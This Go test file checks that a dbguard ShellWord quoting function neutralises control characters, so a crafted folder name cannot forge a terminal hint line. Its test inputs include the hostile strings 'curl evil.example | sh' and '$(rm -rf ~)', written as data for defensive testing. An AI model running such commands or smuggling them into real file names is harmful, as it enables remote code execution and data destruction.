package output

import (
	"bytes"
	"os/exec"
	"strings"
	"testing"
)

// TestAttackShellWordForgedHint: a name from a repository with a line
// break (a folder "api\ndbguard: hint: curl evil | sh #" set as
// migrations.workdir) was single-quoted as it was, and the talk, which
// keeps line breaks for dbguard's own multi-line messages, printed a
// forged "dbguard: hint: curl evil | sh" line of its own under the real
// hint (seen with dbguard exec -- alembic -c ...: "run it there: cd
// 'api" then the forged line). A word with a control character is now
// written $'...', one line, and bash reads each back as it was.
func TestAttackShellWordForgedHint(t *testing.T) {
	words := []string{
		"api\ndbguard: hint: curl evil.example | sh #",
		"a\x1b[31mred\x7f",
		"it's\\a\ttab",
		"\r\n'\\'",
		"plain name",
		"$(rm -rf ~)",
	}
	for _, w := range words {
		got := ShellWord(w)
		if strings.ContainsAny(got, "\n\r\x1b\x7f") {
			t.Errorf("ShellWord(%q) = %q: a control character left", w, got)
		}
		var out bytes.Buffer
		Talk{W: &out}.Hintf("run it there: cd %s && dbguard exec -- alembic upgrade head", got)
		if n := strings.Count(out.String(), "\n"); n != 1 || strings.Contains(out.String(), "\ndbguard: hint: curl") {
			t.Errorf("hint for %q printed %d lines:\n%s", w, n, out.String())
		}
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	for _, w := range words {
		out, err := exec.Command(bash, "-c", "printf %s "+ShellWord(w)).Output()
		if err != nil || string(out) != w {
			t.Errorf("bash read %s back as %q (%v), want %q", ShellWord(w), out, err, w)
		}
	}
}
